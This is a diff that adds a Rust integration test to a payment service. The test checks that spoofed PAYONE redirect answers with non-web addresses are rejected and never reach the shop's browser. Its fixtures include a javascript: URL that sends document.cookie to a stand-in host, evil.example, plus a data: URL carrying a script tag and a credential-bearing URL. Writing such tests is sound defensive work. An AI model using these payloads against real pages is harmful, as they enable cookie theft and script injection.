@@ -148,6 +148,29 @@ async fn the_simulators_timeout_and_garbage_instruments_are_clear_errors_and_ano
     }
 }
 
+/// A PAYONE answer (spoofed, or PAYONE compromised) whose `redirecturl` is not a web address: the widget would
+/// navigate the shop's page to it, so `javascript:` would run in the shop's origin. It never reaches the browser.
+#[tokio::test]
+async fn a_redirect_that_is_not_a_web_address_never_reaches_the_browser() {
+    let upstream = FaultyUpstream::start().await;
+    let env = payone_behind(&upstream).await;
+    let answers = [
+        "status=REDIRECT\ntxid=900001\nuserid=1\nredirecturl=javascript:fetch('//evil.example/?'+document.cookie)\n",
+        "status=REDIRECT\ntxid=900002\nuserid=1\nredirecturl=data:text/html,<script>alert(1)</script>\n",
+        "status=REDIRECT\ntxid=900003\nuserid=1\nredirecturl=https://user:pass@payments.amazon.de/\n",
+    ];
+    for (n, answer) in answers.into_iter().enumerate() {
+        let workorder = env.checkout("visa-1111").await;
+        upstream.break_on("request=preauthorization", Fault::Answer(answer));
+        let response = env.place(&workorder, &format!("bad-redirect-{n}"), Language::En).await;
+        let err = expect_error(response, 502, ErrorCode::UpstreamInvalid, Language::En).await;
+        assert!(!format!("{err:?}").contains("javascript") && !format!("{err:?}").contains("<script>"), "{err:?}");
+        let orders = env.state.store.orders_for_workorder(&workorder).unwrap();
+        assert_eq!((orders.len(), orders[0].state), (1, OrderState::UpstreamFailed), "{answer}");
+        upstream.heal();
+    }
+}
+
 /// A CheckoutChamp lander's order request for a fresh order reference of Anna's paid with visa-1111.
 fn crm_order(env: &Env, key: &str) -> ImportOrderRequest {
     let amazon = &env.sandbox().amazon;
